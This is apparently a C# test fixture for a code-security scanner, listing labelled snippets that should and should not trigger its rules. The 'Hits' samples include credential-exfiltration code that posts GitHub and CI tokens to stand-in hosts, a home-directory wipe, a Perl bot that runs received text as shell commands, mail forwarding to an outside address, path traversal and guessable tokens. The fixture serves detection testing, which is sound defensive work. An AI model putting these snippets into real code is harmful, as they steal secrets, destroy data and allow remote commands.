namespace Symbiont.Scanning.Tests.Capabilities;

/// <summary>Excuses that govern the act, and words of an excuse that stand elsewhere and excuse nothing.</summary>
internal static class ExcuseCases
{
    public static readonly (string Rule, string File, string Text)[] NearMisses =
    [
        ("tool-opens-anything", "guard.js", "function inside(name) {\n  const full = fs.realpathSync(path.join(root, name));\n  if (!full.startsWith(root)) throw new Error(name);\n  return full;\n}\nserver.tool('read', schema, async ({ args }) => {\n  const file = inside(args.path);\n  return fs.readFileSync(file, 'utf8', args.path);\n});\n"),
        ("credentials-leave", "whoami.py", "token = yaml.safe_load(open(home / '.config/gh/hosts.yml'))['github.com']['oauth_token']\nanswer = requests.post('https://api.github.com/graphql', json=query, headers={'Authorization': token})\n"),
        ("credentials-leave", "latest.js", "const token = /_authToken=(.*)/.exec(fs.readFileSync(path.join(os.homedir(), '.npmrc')))[1];\nawait fetch('https://registry.npmjs.org/-/v1/login', { method: 'POST', headers: { authorization: token } });\n"),
        ("remote-commands", "stream.js", "advisories() {\n  this.nc.subscribe(`$JS.EVENT.ADVISORY.>`, { callback: (err, msg) => this.queue.push(msg) });\n}\n"),
        ("bare-host", "path.js", "const page = new URL(`http://example.com${req.url}`).pathname;\nsocket.send(page);\n"),
        ("credentials-leave", "clients.js", "const base = { $schema: \"https://settings.example.org/config.json\", mcp: {} };\nawait write(join(home, \".codex/config.toml\"), base);\n"),
        ("credentials-leave", "publish.js", "if (!process.env.ACTIONS_ID_TOKEN_REQUEST_URL) throw new Error('no permission');\nroot.attachments[name] = { content_type: bundle.mediaType, data };\n"),
        ("mail-forwarded", "endpoints.json", "[{ \"path\": \"/me/mailFolders/{id}/messageRules\", \"method\": \"post\",\n  \"tip\": \"Conditions: fromAddresses such as 'user@example.org'. Actions: moveToFolder, markAsRead, delete.\" }]\n"),
        ("tool-opens-anything", "modules.js", "async fetch(url) {\n  const isFile = url.startsWith(\"file://\");\n  for (const er of errors) report(er.url);\n  for (const r of rows) r.url = fix(r.url);\n}\n"),
        ("guessable-secret", "sse.js", "const sessionId = transport.sessionId || `session-${Date.now()}-${Math.random().toString(36).slice(2)}`;\n"),
    ];

    public static readonly (string Rule, string File, string Text)[] Hits =
    [
        // The word stands in a function that nobody calls.
        ("tool-opens-anything", "Read.java", "static String unused(Path p) throws IOException {\n    return p.normalize().toString();\n}\npublic String read(Map<String, Object> args) throws IOException {\n    return Files.readString(Path.of(folder + args.get(\"name\")));\n}\n"),
        // It stands after the act.
        ("tool-opens-anything", "Late.java", "public String read(Map<String, Object> args) throws IOException {\n    String text = Files.readString(Path.of(folder + args.get(\"name\")));\n    log.info(Path.of(folder).normalize().toString());\n    return text;\n}\n"),
        // It stands in a branch that the act is not in.
        ("everything-wiped", "branch.py", "def fresh():\n    if verbose:\n        input('Press enter')\n    try:\n        shutil.rmtree(Path.home())\n    except OSError: pass\n"),
        // A host beside the owner's.
        ("credentials-leave", "both.py", "token = open(home / '.config/gh/hosts.yml').read()\nrequests.post('https://api.github.com/graphql', json=query)\nrequests.post('https://api.github.com.t.example.net/in', data=token)\n"),
        // The owner's name before an at sign.
        ("credentials-leave", "sign.py", "token = open(home / '.config/gh/hosts.yml').read()\nrequests.post('https://api.github.com@t.example.net/in', data=token)\n"),
        // A template of JavaScript is no command; those of other languages are.
        ("remote-commands", "bot.pl", "$irc->on_message(sub {\n  my $order = shift;\n  my $said = `$order`;\n});\n"),
        ("bare-host", "beacon.js", "const page = new URL(`http://collect-example.net${req.url}`);\nsocket.send(page);\nfetch(page, { method: 'POST', body });\n"),
        // An address that is asked, and not the schema of what follows.
        ("credentials-leave", "take.js", "const text = readFileSync(join(home, \".codex/config.toml\"), 'utf8');\nawait post(\"https://settings.example.net/config.json\", text);\n"),
        ("credentials-leave", "token.js", "const url = process.env.ACTIONS_ID_TOKEN_REQUEST_URL;\nawait axios.post('https://t.example.net/in', { url });\n"),
        ("mail-forwarded", "rule.ts", "await api('/me/mailFolders/inbox/messageRules').post({ actions: { forwardTo: ['desk@post.example.net'], markAsRead: true } });\n"),
        ("guessable-secret", "reset.js", "const token = req.token || Math.random().toString(36).slice(2);\n"),
        ("guessable-secret", "own.js", "const sessionId = Math.random().toString(36).slice(2);\n"),
    ];
}
